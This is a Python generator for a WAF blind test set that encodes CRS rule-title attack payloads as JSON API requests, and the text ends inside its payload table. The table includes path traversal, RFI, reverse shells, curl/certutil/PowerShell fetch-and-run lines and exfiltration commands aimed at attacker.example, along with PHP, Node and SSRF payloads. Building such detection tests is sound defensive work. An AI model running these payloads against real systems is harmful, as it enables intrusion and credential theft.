"""Blind set "eightyseventh": every CRS 3.3 request-rule title (protocol, scanner and file-upload titles aside) and
the later 4.x titles, written as the JSON an API really receives.

The angle: attack traffic as it reaches this product's JSON API, not a form or a query string. Each payload travels
in one of nine JSON places:
  json              a field of `POST /api/users` (or `PATCH /api/users/42` as application/json): an ordinary field,
                    a number-typed field sent as a string, a field the API ignores but logs (`_trace_note`,
                    `client_debug`), a duplicated key (the payload first or last), or a GraphQL-looking `query`
                    with the payload as a string argument;
  json-key          the payload as an object key (preferences, filters, metadata, top level);
  json-array        an element of an array (tags, aliases, a bulk array of users, an array of objects);
  json-nested       deep inside nested objects (address, team, audit note, a client's logged headers);
  json-string-doc   inside a JSON document stored in a string field (settings, metadata, preferences);
  json-patch-value  the "value" of an RFC 6902 operation (application/json-patch+json);
  json-patch-path   the "path" or "from" of an RFC 6902 operation;
  merge-patch       an RFC 7386 merge patch (application/merge-patch+json);
  slack-event       a Slack Events API callback (`POST /slack/events`) with a made-up signature: message text,
                    rich-text blocks, attachments, a user_change profile, message metadata.
The JSON text itself varies as real encoders write it: plain UTF-8, Go's HTML-safe escapes (\\u003c \\u003e
\\u0026), PHP's escaped slashes (\\/), ASCII-only escapes, \\u0027 for apostrophes, and now and then every character
of the payload as a \\uXXXX escape; compact or spaced. NoSQL operators and JavaScript for MongoDB ($ne, $gt, $regex,
$where, $expr/$function), prototype pollution and mass assignment (__proto__, constructor.prototype, role,
is_admin), and split-field authentication bypasses are sent as JSON structures, not strings.

Families (category: sub-families, one per title):
  lfi: traversal-encoded, traversal-dotdot, os-file-names, restricted-files, os-file-in-logged-headers,
       traversal-triple-dot
  rfi: rfi-ip-url, rfi-param-name, rfi-trailing-question, rfi-off-domain
  rce: unix-cmd-injection, unix-cmd-chained, windows-cmd-injection, windows-cmd-more, powershell,
       unix-shell-expression, windows-for-if, direct-unix-exec, unix-shell-code, shellshock-logged-headers,
       shellshock-args, rce-bypass, unix-cmd-plain, unix-cmd-evasion, shell-alias, shell-history, short-cmd-pipes,
       sqlite-dot-commands, mail-cmd-injection, windows-cmd-evasion, shell-code-logged-headers,
       unix-abs-path-wildcard
  php: php-open-tag, php-config-directive, php-variables, php-io-stream, php-wrapper-scheme, php-wrapper-rare,
       php-high-risk-func-name, php-high-risk-func-call, php-serialized-object, php-variable-function-call,
       php-callee-concat, php-callee-array, php-medium-risk-func-name
  generic: nodejs-injection, nodejs-sandbox-escape, nodejs-code-eval, nodejs-dos, ssrf-cloud-metadata,
       ssrf-ip-forms, prototype-pollution, ruby-injection, perl-injection, php-data-scheme,
       session-fixation-cookie-html, session-id-off-domain-referer, session-id-no-referer
  xss: xss-libinjection, xss-script-tag, xss-event-handler, xss-attribute-vector, xss-javascript-uri,
       html-injection, attribute-injection, node-validator-blacklist, ie-xss-style, ie-xss-vml, ie-xss-js-obfuscated,
       ie-xss-vbs-obfuscated, ie-xss-embed, ie-xss-import, ie-xss-meta, ie-xss-link, ie-xss-base, ie-xss-applet,
       ie-xss-object, ie-xss-databinding, us-ascii-malformed, utf7-xss, jsfuck, js-global-variable,
       xss-libinjection-fragments, disallowed-html-attrs, html-tag-handler, ie-xss-location-assign,
       ie-xss-string-breakout, angularjs-csti, angularjs-sandbox-escape, js-method-call, js-no-parens
  sqli: sqli-libinjection, sqli-db-names, sqli-sleep-benchmark, sqli-conditional-sleep, mssql-exec,
       integer-overflow, conditional-sqli, charset-switch-dos, match-against-merge-execute, basic-union-select-from,
       pg-sleep-waitfor-shutdown, mongodb-injection, stored-proc-function, udf-data-manipulation,
       concatenated-sqli-sqllfi, mysql-inline-comment, common-testing, sql-operator, sql-tautology, sql-functions,
       auth-bypass-1, comment-space-obfuscation, chained-sqli-1, auth-bypass-2, mysql-comments-conditions-char,
       chained-sqli-2, classic-probing-1, auth-bypass-3, alter-union-keyword, classic-probing-2,
       sqli-exists-having, sqli-or-xor, sqli-and-expr, sqli-functions-2, sqli-server-objects, sqli-clauses,
       special-char-anomaly, sql-comment-sequence, sql-hex-encoding, ticks-backticks, sqli-json-operators,
       mysql-sci-notation, auth-bypass-split, auth-bypass-4
  java: java-suspicious-class, java-process-spawn, java-serialization-gadgets, java-suspicious-class-2,
       java-magic-bytes, java-magic-base64, java-serialization-2, java-suspicious-method, log4shell,
       java-class-loading, java-reflection-chain
The "... in REQUEST_HEADERS" titles and the header form of Shellshock are sent as a client's headers that the API
receives inside JSON and logs (a sessions or device record), since this set places everything in JSON.

The benign half is the same API used by real clients: profiles with bios, settings documents stored as strings,
JSON Patch edits, merge patches, GraphQL queries, Mongo-style filter documents of an API that accepts them, search
documents, and Slack events of real users (messages, mentions, profile changes, links, files), carrying the same
words innocently; encoded with the same encoders' styles.

Authorship and independence: written for this repository from general knowledge of each attack family and from the
rule titles alone; no ruleset, rule regression test, public payload list or other blind set was read. Measured once
on unchanged code; payloads were not changed after seeing what the WAF blocks. Deterministic (string-seeded
random.Random, no clock).
"""

from __future__ import annotations

import hashlib
import json
import random
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "eightyseventh"
EPOCH = 1719000000


class P(str):
    """A payload string: written in the record's JSON style (plain, ASCII, every character escaped, ...)."""


class Num(str):
    """A number written raw into the JSON text (not quoted)."""


class Pairs(list[tuple[str, Any]]):
    """An object written from its pairs, in order: lets a key appear twice."""


@dataclass(frozen=True)
class Title:
    category: str
    sub: str
    payloads: tuple[str, ...]
    fields: tuple[str, ...] = ()
    places: tuple[str, ...] = ()
    structured: str = ""     # "value": an object for a field; "fragment": keys of the document; "split": two fields
    numeric: bool = False    # valid JSON numbers go in raw
    referer: str | None = None   # None: the client's own; "": no Referer at all


PLACES = ("json", "json-key", "json-array", "json-nested", "json-string-doc", "json-patch-value",
          "json-patch-path", "merge-patch", "slack-event")
HEADER_PLACES = ("json-nested", "merge-patch", "json-patch-value", "json-array", "json-string-doc", "json")
SESSION_PLACES = ("json", "json-nested", "merge-patch", "json-patch-value", "json-string-doc")
HEADER_FIELDS = ("user_agent", "referer", "x_forwarded_host", "via")
SESSION_FIELDS = ("PHPSESSID", "JSESSIONID", "sessionid", "ASPSESSIONID", "sid", "session_id")

# ----------------------------------------------------------------------------------------------------- the titles
TITLES: tuple[Title, ...] = (
    # 930100 Path Traversal Attack (/../), encoded forms
    Title("lfi", "traversal-encoded", (
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%2f..%2f..%2f..%2fetc%2fshadow",
        "%2e%2e/%2e%2e/%2e%2e/var/log/auth.log",
        "..%252f..%252f..%252fetc%252fhosts",
        "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "..%5c..%5c..%5cwindows%5cwin.ini",
        "%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini",
        "..%c0%af..%c0%af..%c0%afetc%c0%afgroup",
    ), fields=("avatar_path", "template", "export_file", "attachment")),
    # 930110 Path Traversal Attack (/../)
    Title("lfi", "traversal-dotdot", (
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "avatars/../../../../proc/self/environ",
        "/var/www/app/uploads/../../../../etc/shadow",
        "....//....//....//etc/passwd",
        "..//..//..//root/.ssh/id_rsa",
        "templates/../../config/database.yml",
        "..\\/..\\/..\\/etc/hosts",
    ), fields=("avatar_path", "template", "locale_file", "report_path")),
    # 930120 OS File Access Attempt
    Title("lfi", "os-file-names", (
        "/etc/passwd",
        "/proc/self/cmdline",
        "/etc/shadow",
        "file:///etc/group",
        "/root/.bash_history",
        "C:\\Windows\\win.ini",
        "/home/deploy/.ssh/authorized_keys",
        "/proc/1/environ",
    ), fields=("avatar_path", "import_file", "attachment", "log_file")),
    # 930130 Restricted File Access Attempt
    Title("lfi", "restricted-files", (
        ".env",
        "/.git/config",
        "../.htaccess",
        "web.config",
        ".aws/credentials",
        "/.svn/entries",
        "wp-config.php.bak",
        "config/.htpasswd",
    ), fields=("download", "template", "attachment", "file")),
    # 4.x OS File Access Attempt in REQUEST_HEADERS (a client's headers, logged by the API)
    Title("lfi", "os-file-in-logged-headers", (
        "() /../../../../etc/passwd",
        "https://app.example.com/../../../../etc/shadow",
        "/proc/self/environ",
        "file:///etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/hosts%00",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
    ), fields=HEADER_FIELDS, places=HEADER_PLACES),
    # 4.x Path Traversal Attack (/../) or (/.../)
    Title("lfi", "traversal-triple-dot", (
        ".../.../.../etc/passwd",
        "/.../.../.../.../etc/shadow",
        "...\\...\\...\\windows\\win.ini",
        "uploads/..././..././..././etc/passwd",
        "/../../../../etc/hosts",
        "..;/..;/..;/etc/passwd",
        "/..%00/../etc/passwd",
    ), fields=("avatar_path", "template", "path", "export_file")),
    # 931100 RFI: URL Parameter using IP Address
    Title("rfi", "rfi-ip-url", (
        "http://203.0.113.45/shell.txt",
        "https://198.51.100.7/payload.php",
        "ftp://192.0.2.10/pub/inc.txt",
        "http://45.33.32.156:8080/c99.txt?",
        "http://[2001:db8::7]/r57.txt",
        "\\\\203.0.113.12\\share\\inc.php",
        "http://3232235777/x.txt",
        "https://203.0.113.99/evil.js",
    ), fields=("avatar_url", "import_url", "template_url", "feed_url")),
    # 931110 RFI: common RFI-vulnerable parameter name with a URL
    Title("rfi", "rfi-param-name", (
        "http://attacker.example/shell.txt",
        "https://evil.example.net/c99.php",
        "ftp://files.attacker.example/r57.txt",
        "http://attacker.example/inc/config.txt",
        "https://pastebin.example.com/raw/Xy12Ab",
        "http://cdn-evil.example.org/x.gif",
        "ftps://attacker.example/backdoor.php",
    ), fields=("include", "page", "file", "mosConfig_absolute_path", "template", "inc", "document_root")),
    # 931120 RFI: URL payload with a trailing question mark
    Title("rfi", "rfi-trailing-question", (
        "http://attacker.example/shell.txt?",
        "https://evil.example.net/id.txt??",
        "ftp://attacker.example/c.txt?",
        "http://attacker.example/x.php?cmd=id?",
        "https://raw.attacker.example/kit.txt?&",
        "http://attacker.example/inc?",
        "http://attacker.example/inj.txt?%00",
    ), fields=("template_url", "include", "import_url", "page")),
    # 931130 RFI: off-domain reference
    Title("rfi", "rfi-off-domain", (
        "https://attacker.example/payload.php",
        "http://evil.example.net/templates/header.inc",
        "//attacker.example/remote.txt",
        "https://gist.attacker.example/raw/loader.js",
        "ftp://attacker.example/incl.txt",
        "http://attacker.example:8080/x",
        "https://attacker.example/shell.aspx#",
    ), fields=("template_url", "import_url", "plugin_url", "theme_url")),
    # 932100 Unix Command Injection
    Title("rce", "unix-cmd-injection", (
        ";cat /etc/passwd",
        "| id",
        "&& uname -a",
        "`whoami`",
        "$(id)",
        "; ls -la /var/www",
        "|| curl http://attacker.example/s.sh | sh",
        "127.0.0.1; nc 203.0.113.5 4444 -e /bin/sh",
    )),
    # 932105 Unix Command Injection (chained)
    Title("rce", "unix-cmd-chained", (
        "x; wget http://attacker.example/b -O /tmp/b; chmod +x /tmp/b; /tmp/b",
        "a|nc -lvp 4444",
        "&ping -c 4 203.0.113.5",
        "\nid\n",
        ";echo${IFS}pwned>/tmp/x",
        "| tail -n 50 /var/log/syslog",
        "; perl -e 'print `id`'",
        "$(sleep 7)",
    )),
    # 932110 Windows Command Injection
    Title("rce", "windows-cmd-injection", (
        "& dir C:\\",
        "| type C:\\Windows\\win.ini",
        "&& net user hacker P4ss /add",
        "; cmd.exe /c whoami",
        "| ipconfig /all",
        "& certutil -urlcache -split -f http://attacker.example/a.exe a.exe",
        "&& tasklist /v",
        "| net localgroup administrators",
    )),
    # 932115 Windows Command Injection (more commands)
    Title("rce", "windows-cmd-more", (
        "& systeminfo",
        "| reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        "&& wmic process list brief",
        "; bitsadmin /transfer j http://attacker.example/a.exe C:\\a.exe",
        "& schtasks /create /tn x /tr calc.exe /sc once /st 00:00",
        "| findstr /s /i secret *.config",
        "& rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
        "&& sc query state= all",
    )),
    # 932120 Windows PowerShell Command Found
    Title("rce", "powershell", (
        "powershell -NoP -NonI -W Hidden -Enc SQBFAFgA",
        "powershell.exe -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\"",
        "; Invoke-WebRequest -Uri http://attacker.example/x -OutFile x.exe",
        "| Get-ChildItem -Path C:\\Users -Recurse",
        "& Start-Process calc.exe",
        "Invoke-Expression (Get-Content C:\\temp\\a.ps1)",
        "pwsh -c Get-Process",
        "& Set-MpPreference -DisableRealtimeMonitoring $true",
    )),
    # 932130 Unix Shell Expression Found
    Title("rce", "unix-shell-expression", (
        "$(cat /etc/passwd)",
        "a${IFS}b",
        "`uname -a`",
        "$((1+1))$(id)",
        "<(curl attacker.example)",
        ">(nc 203.0.113.5 9001)",
        "${PATH:0:1}etc${PATH:0:1}passwd",
        "$(echo${IFS}aWQ=|base64${IFS}-d|sh)",
    )),
    # 932140 Windows FOR/IF Command Found
    Title("rce", "windows-for-if", (
        "for /f %i in ('whoami') do echo %i",
        "& for /r C:\\ %f in (*.config) do type %f",
        "if exist C:\\inetpub\\wwwroot\\web.config type C:\\inetpub\\wwwroot\\web.config",
        "&& for /l %x in (1,1,100) do ping -n 1 10.0.0.%x",
        "| if defined USERNAME echo %USERNAME%",
        "for /d %d in (C:\\Users\\*) do dir %d",
        "& if not exist x.exe certutil -urlcache -f http://attacker.example/x.exe x.exe",
    )),
    # 932150 Direct Unix Command Execution
    Title("rce", "direct-unix-exec", (
        "cat /etc/passwd",
        "/bin/sh -c id",
        "wget http://attacker.example/x.sh",
        "curl -d @/etc/passwd http://attacker.example/",
        "nc -e /bin/bash 203.0.113.5 4444",
        "python -c 'import pty;pty.spawn(\"/bin/bash\")'",
        "bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
        "chmod 777 /tmp/x",
    )),
    # 932160 Unix Shell Code Found
    Title("rce", "unix-shell-code", (
        "/bin/bash -c 'id'",
        "/usr/bin/id",
        "/bin/cat /etc/shadow",
        "/usr/bin/wget -q http://attacker.example/m -O-",
        "/bin/busybox telnetd -l /bin/sh -p 9999",
        "/usr/bin/python3 -m http.server",
        "/bin/nc.traditional -e /bin/sh 203.0.113.5 53",
        "/usr/local/bin/php -r 'system(\"id\");'",
    )),
    # 932170 Shellshock (headers: a client's headers, logged by the API)
    Title("rce", "shellshock-logged-headers", (
        "() { :; }; echo; /bin/id",
        "() { :;}; /bin/bash -c \"curl http://attacker.example/s|sh\"",
        "() { _; } >_[$($())] { id; }",
        "() { :; }; ping -c 1 203.0.113.5",
        "() { x; }; /usr/bin/wget attacker.example/x",
        "() {:;}; echo vulnerable",
        "() { :; }; exec 5<>/dev/tcp/203.0.113.5/80",
    ), fields=HEADER_FIELDS, places=HEADER_PLACES),
    # 932171 Shellshock (arguments)
    Title("rce", "shellshock-args", (
        "() { :; }; /bin/cat /etc/passwd",
        "() { ignored; }; /bin/sh -c id",
        "() { :;}; echo Content-Type: text/plain; echo; /usr/bin/id",
        "() { 0; }; sleep 5",
        "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "() { (a)=>\\' bash -c 'echo date'",
        "() { :; }; nslookup attacker.example",
    )),
    # 932200 RCE Bypass Technique
    Title("rce", "rce-bypass", (
        "c\\at /et\\c/pas\\swd",
        "w'h'o'a'm'i",
        "/???/??t /???/p??s??",
        "ca\"\"t /etc/hosts",
        "{cat,/etc/passwd}",
        "who$@ami",
        "$u/bin$u/id",
        "l\\s -l\\a",
    )),
    # 4.x Unix Command Injection (command without evasion)
    Title("rce", "unix-cmd-plain", (
        "; id",
        "| cat /etc/os-release",
        "&& curl attacker.example",
        "; rm -rf /var/www/html",
        "| ps aux",
        "; env",
        "&& ifconfig",
    )),
    # 4.x Unix Command Injection evasion attempt
    Title("rce", "unix-cmd-evasion", (
        ";c''at${IFS}/etc/passwd",
        "|w\\ho\\am\\i",
        ";$'\\x63\\x61\\x74' /etc/passwd",
        "&&{wget,attacker.example/x}",
        ";cat$IFS$9/etc/passwd",
        "|/b?n/c?t /e?c/p?ss?d",
        ";X=$'cat\\x20/etc/passwd'&&$X",
        ";ec\"\"ho pwned",
    )),
    # 4.x Unix shell alias invocation
    Title("rce", "shell-alias", (
        "; alias ls='rm -rf /'",
        "| \\ls -la /",
        "; alias sudo='sudo sh -c id;sudo'",
        "&& command id",
        "; builtin eval id",
        "; unalias -a; id",
        "; alias x='cat /etc/passwd'; x",
    )),
    # 4.x Unix shell history invocation
    Title("rce", "shell-history", (
        "; !!",
        "; !-1",
        "| !cat",
        "; history | tail -n 20",
        "; fc -s cat=id",
        "; cat ~/.bash_history",
        "; echo !$ /etc/passwd",
    )),
    # 4.x Unix command injection with pipes / 2-3 letter commands
    Title("rce", "short-cmd-pipes", (
        "|id",
        "|ls",
        "|ps",
        "|w",
        ";df",
        "|dd if=/etc/passwd",
        "|nl /etc/passwd",
        "|od -c /etc/shadow",
    )),
    # 4.x SQLite System Command Execution
    Title("rce", "sqlite-dot-commands", (
        ".shell id",
        ".system cat /etc/passwd",
        "; .shell curl attacker.example",
        ".import /etc/passwd t",
        ".output /var/www/html/x.php",
        ".load /tmp/evil.so",
        "\n.shell id",
        ".read /etc/passwd",
    )),
    # 4.x SMTP / IMAP / POP3 Command Execution
    Title("rce", "mail-cmd-injection", (
        "user@example.com\r\nRCPT TO:<victim@example.org>",
        "a@b.example\r\nDATA\r\nSubject: hi\r\n.\r\nQUIT",
        "INBOX\r\na002 DELETE INBOX",
        "x\r\nMAIL FROM:<attacker@example.net>",
        "1\r\nRETR 1",
        "support\r\nA1 FETCH 1:* BODY[]",
        "test\nVRFY root",
    ), fields=("email", "mailbox", "subject", "reply_to")),
    # 4.x Windows Command Injection (cmd, powershell with evasions)
    Title("rce", "windows-cmd-evasion", (
        "& c^m^d /c w^h^o^a^m^i",
        "| cmd /v:on /c \"set x=whoami&&!x!\"",
        "& p^ower^shell -e SQBFAFgA",
        "&& \"c\"\"m\"\"d\" /c dir",
        "| %COMSPEC% /c ver",
        "& set a=who&& set b=ami&& call %a%%b%",
        "& powershell -c \"&('I'+'EX')('whoami')\"",
        "|cmd.exe/c,type,C:\\Windows\\win.ini",
    )),
    # 4.x Unix Shell Code Found in REQUEST_HEADERS
    Title("rce", "shell-code-logged-headers", (
        "Mozilla/5.0 $(curl attacker.example/ua.sh|sh)",
        "; /bin/bash -c 'id'",
        "`/usr/bin/id`",
        "https://app.example.com/; /bin/cat /etc/passwd",
        "/bin/sh -i",
        "$(/usr/bin/wget -qO- attacker.example)",
        "| /usr/bin/nc 203.0.113.5 4444",
    ), fields=HEADER_FIELDS, places=HEADER_PLACES),
    # 4.x Direct Unix Command Execution (absolute paths, wildcards)
    Title("rce", "unix-abs-path-wildcard", (
        "/bin/c?t /etc/pass?d",
        "/usr/bin/wh*mi",
        "/???/?s -la",
        "/b[i]n/c[a]t /e[t]c/passwd",
        "/usr/bin/curl -o /tmp/x attacker.example/x",
        "/bin/ca* /et*/sha*",
        "/usr/b*n/n? -e /b*n/sh 203.0.113.5 9",
    )),
    # 933100 PHP Open Tag Found
    Title("php", "php-open-tag", (
        "<?php system($_GET['cmd']); ?>",
        "<?= shell_exec('id') ?>",
        "<?PHP echo file_get_contents('/etc/passwd');",
        "<? passthru($_REQUEST[0]); ?>",
        "<?php\n@eval($_POST['z']);\n?>",
        "[[<?php phpinfo(); ?>]]",
        "<script language=\"php\">system('id');</script>",
        "?><?php echo `ls`;",
    )),
    # 933120 Configuration Directive Found
    Title("php", "php-config-directive", (
        "allow_url_include=1",
        "auto_prepend_file=php://input",
        "disable_functions=",
        "open_basedir=/",
        "safe_mode=Off",
        "auto_append_file=/var/www/uploads/avatar.gif",
        "-d allow_url_fopen=On -d auto_prepend_file=http://attacker.example/x",
        "php_value auto_prepend_file /tmp/x",
    )),
    # 933130 Variables Found
    Title("php", "php-variables", (
        "$_SERVER['HTTP_HOST']",
        "$_GET['x']",
        "$GLOBALS['db_pass']",
        "$_COOKIE['PHPSESSID']",
        "$_ENV['APP_KEY']",
        "$HTTP_POST_VARS",
        "$_FILES['f']['tmp_name']",
        "{$_REQUEST['cmd']}",
    )),
    # 933140 I/O Stream Found
    Title("php", "php-io-stream", (
        "php://input",
        "php://filter/convert.base64-encode/resource=config.php",
        "php://stdin",
        "php://fd/0",
        "php://temp/maxmemory:1",
        "php://output",
        "PHP://Filter/read=string.toupper/resource=/etc/passwd",
        "php://memory",
    ), fields=("template", "import_file", "avatar_path", "source")),
    # 933200 Wrapper scheme detected
    Title("php", "php-wrapper-scheme", (
        "compress.zlib://config.php.gz",
        "phar://uploads/avatar.jpg/shell.php",
        "expect://id",
        "zip://uploads/a.zip#x.php",
        "glob://var/www/*",
        "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
        "compress.bzip2://../../app/.env",
        "ogg://attacker.example/a",
    ), fields=("template", "import_file", "avatar_path", "source")),
    # 4.x Wrapper scheme detected (rarer wrappers)
    Title("php", "php-wrapper-rare", (
        "ssh2.exec://user@10.0.0.5/id",
        "rar://uploads/x.rar#shell.php",
        "ssh2.shell://10.0.0.5:22/xterm",
        "compress.zlib://php://input",
        "phar:///tmp/uploads/x.phar/test.txt",
        "expect://curl${IFS}attacker.example",
        "ssh2.sftp://user@10.0.0.5/etc/passwd",
        "glob:///etc/*",
    ), fields=("template", "import_file", "avatar_path", "source")),
    # 933150 High-Risk PHP Function Name Found
    Title("php", "php-high-risk-func-name", (
        "passthru",
        "shell_exec",
        "proc_open",
        "base64_decode",
        "file_put_contents",
        "phpinfo",
        "fsockopen",
        "call_user_func",
    ), fields=("callback", "handler", "fn", "formatter", "filter_callback")),
    # 933160 High-Risk PHP Function Call Found
    Title("php", "php-high-risk-func-call", (
        "system('id');",
        "exec(\"cat /etc/passwd\")",
        "eval($_POST['x'])",
        "assert(\"system('id')\")",
        "popen('id','r')",
        "pcntl_exec('/bin/sh')",
        "file_get_contents('http://attacker.example/')",
        "shell_exec ( 'uname -a' )",
    )),
    # 933170 Serialized Object Injection
    Title("php", "php-serialized-object", (
        "O:8:\"stdClass\":1:{s:4:\"role\";s:5:\"admin\";}",
        "O:25:\"Illuminate\\Bus\\Dispatcher\":1:{s:16:\"\\0*\\0queueResolver\";s:6:\"system\";}",
        "a:1:{i:0;O:10:\"FileLogger\":1:{s:4:\"path\";s:11:\"/tmp/sh.php\";}}",
        "O:+4:\"User\":1:{s:7:\"isAdmin\";b:1;}",
        "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
        "O:13:\"Cache\\Storage\":2:{s:4:\"file\";s:9:\"shell.php\";s:4:\"data\";s:18:\"<?php phpinfo();?>\";}",
        "Tzo4OiJzdGRDbGFzcyI6MDp7fQ==",
        "a:2:{i:0;s:4:\"test\";i:1;O:6:\"Logger\":0:{}}",
    ), fields=("preferences", "cart", "state", "remember")),
    # 933180 Variable Function Call Found
    Title("php", "php-variable-function-call", (
        "$f('id');",
        "$_GET['a']($_GET['b']);",
        "${'_POST'}['x']('id')",
        "$x=\"sys\".\"tem\";$x('ls');",
        "$$name('id')",
        "$a[0]($a[1])",
        "$cb = $_REQUEST['cb']; $cb('whoami');",
        "{$_GET['f']}('id')",
    )),
    # 933210 Variable Function Call Found (concatenated callee)
    Title("php", "php-callee-concat", (
        "('sys'.'tem')('id');",
        "(\"ex\".\"ec\")(\"whoami\");",
        "'system'('id');",
        "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id')",
        "('ass'.'ert')($_POST[0]);",
        "(strrev('metsys'))('id');",
        "\"\\x70\\x61\\x73\\x73\\x74\\x68\\x72\\x75\"('id');",
        "(base64_decode('c3lzdGVt'))('id');",
    )),
    # 4.x Variable Function Call Found (string / array callees)
    Title("php", "php-callee-array", (
        "['system'][0]('id');",
        "[new ReflectionFunction('system'), 'invoke']('id');",
        "array('Closure','fromCallable')('system')('id');",
        "('str'.'_rot13')('flfgrz')('id');",
        "[$obj, 'exec']('id');",
        "implode('', ['sy','st','em'])('id');",
        "array_map('sys'.'tem', ['id']);",
    )),
    # 933151 Medium-Risk PHP Function Name Found
    Title("php", "php-medium-risk-func-name", (
        "ini_get_all()",
        "get_defined_vars()",
        "getenv('APP_KEY')",
        "posix_getpwuid(0)",
        "highlight_string($code)",
        "stream_get_contents($fp)",
        "ftp_connect('203.0.113.5')",
        "mb_ereg_replace('.*', 'system', $x, 'e')",
    )),
    # 4.x PHP data scheme attack
    Title("generic", "php-data-scheme", (
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
        "data:text/plain,<?php system('id'); ?>",
        "data://text/plain,<?php phpinfo();?>",
        "data:;base64,PD9waHAgZXZhbCgkX1BPU1RbMV0pOz8+",
        "data://application/x-httpd-php;base64,PD89YGlkYD8+",
        "DATA://text/plain;charset=utf-8,<?=`ls`?>",
        "data://text/plain;base64,JHtAcGhwaW5mbygpfQ==",
    ), fields=("template", "import_file", "avatar_url", "include")),
    # 934100 Node.js Injection Attack
    Title("generic", "nodejs-injection", (
        "require('child_process').execSync('id')",
        "process.mainModule.require('fs').readFileSync('/etc/passwd')",
        "global.process.exit()",
        "eval(require('child_process').exec('ls'))",
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
        "_$$ND_FUNC$$_function(){return require('os').hostname()}()",
        "new Function('return process.env')()",
        "require('http').get('http://attacker.example/'+process.env.DB_URL)",
    ), fields=("filter", "script", "expression", "notes")),
    # 4.x Node.js Injection Attack 1/2
    Title("generic", "nodejs-sandbox-escape", (
        "[].constructor.constructor('return this.process')()",
        "''.constructor.constructor('return globalThis')().process.env",
        "(function(){}).constructor('return process')().version",
        "Reflect.construct(Function,['return process'])().exit()",
        "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')",
        "Object.getPrototypeOf(async()=>{}).constructor('return process')()",
        "module.constructor._load('child_process').exec('id')",
    ), fields=("filter", "script", "expression", "template")),
    # 4.x Node.js Injection Attack 2/2
    Title("generic", "nodejs-code-eval", (
        "eval(Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIp','base64').toString())",
        "setTimeout('process.exit(1)', 1)",
        "eval(String.fromCharCode(114,101,113,117,105,114,101))",
        "Function('return require')()('fs').unlinkSync('/tmp/x')",
        "import('child_process').then(c=>c.exec('id'))",
        "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],stdio:[]})",
        "child_process.spawnSync('sh',['-c','id'])",
        "require('fs').writeFileSync('/app/public/x.js','')",
    ), fields=("filter", "script", "expression", "formula")),
    # 4.x Node.js DoS attack
    Title("generic", "nodejs-dos", (
        "while(true){}",
        "for(;;);",
        "Array(1e9).fill(0)",
        "'a'.repeat(2**30)",
        "new Array(4294967295).join('x')",
        "JSON.parse('['.repeat(100000))",
        "process.kill(process.pid,'SIGKILL')",
        "/(a+)+$/.test('a'.repeat(50)+'!')",
    ), fields=("filter", "script", "expression", "formula")),
    # 4.x Possible SSRF: Cloud provider metadata URL in Parameter
    Title("generic", "ssrf-cloud-metadata", (
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://[fd00:ec2::254]/latest/api/token",
        "http://169.254.170.2/v2/credentials/",
        "http://169.254.169.254/opc/v2/instance/",
        "http://169.254.169.254/computeMetadata/v1/project/project-id",
    ), fields=("webhook_url", "callback_url", "avatar_url", "import_url")),
    # 4.x Possible SSRF: URL Parameter using IP Address
    Title("generic", "ssrf-ip-forms", (
        "http://127.0.0.1:8080/actuator/env",
        "http://2130706433/admin",
        "http://0x7f000001/server-status",
        "http://017700000001/",
        "http://[::1]:6379/",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://0177.0.0.01/",
        "http://10.0.0.1:2375/containers/json",
        "gopher://127.0.0.1:6379/_FLUSHALL",
    ), fields=("webhook_url", "callback_url", "avatar_url", "import_url")),
    # 4.x JavaScript Prototype Pollution (with mass assignment)
    Title("generic", "prototype-pollution", (
        '{"__proto__": {"isAdmin": true}}',
        '{"constructor": {"prototype": {"role": "admin"}}}',
        '{"__proto__": {"role": "admin", "is_admin": true}}',
        '{"profile": {"__proto__": {"polluted": "yes"}}}',
        "constructor.prototype.isAdmin",
        "__proto__.is_admin",
        '{"__proto__": {"shell": "/bin/sh", "NODE_OPTIONS": "--require /proc/self/environ"}}',
        '{"__proto__": {"outputFunctionName": "x;process.mainModule.require(\'child_process\').execSync(\'id\');//"}}',
        "__proto__[role]",
    ), fields=("key", "path", "setting", "field"), structured="fragment"),
    # 4.x Ruby Injection Attack
    Title("generic", "ruby-injection", (
        "Kernel.exec('id')",
        "IO.popen('cat /etc/passwd').read",
        "%x(whoami)",
        "Open3.capture2('id')",
        "Object.const_get(:Kernel).send(:system,'id')",
        "#{`id`}",
        "Marshal.load(Base64.decode64(params[:x]))",
        "ERB.new('<%= `id` %>').result",
    ), fields=("template", "expression", "notes", "filter")),
    # 4.x Perl Injection Attack
    Title("generic", "perl-injection", (
        "qx{cat /etc/passwd}",
        "open(F, \"|id\");",
        "eval { `id` };",
        "@{[system 'id']}",
        "use IO::Socket; IO::Socket::INET->new('203.0.113.5:4444')",
        "exec('/bin/sh') or die",
        "open(my $f, '<', '/etc/passwd'); print <$f>;",
        "perl -e 'exec \"/bin/sh\"'",
    ), fields=("template", "expression", "notes", "filter")),
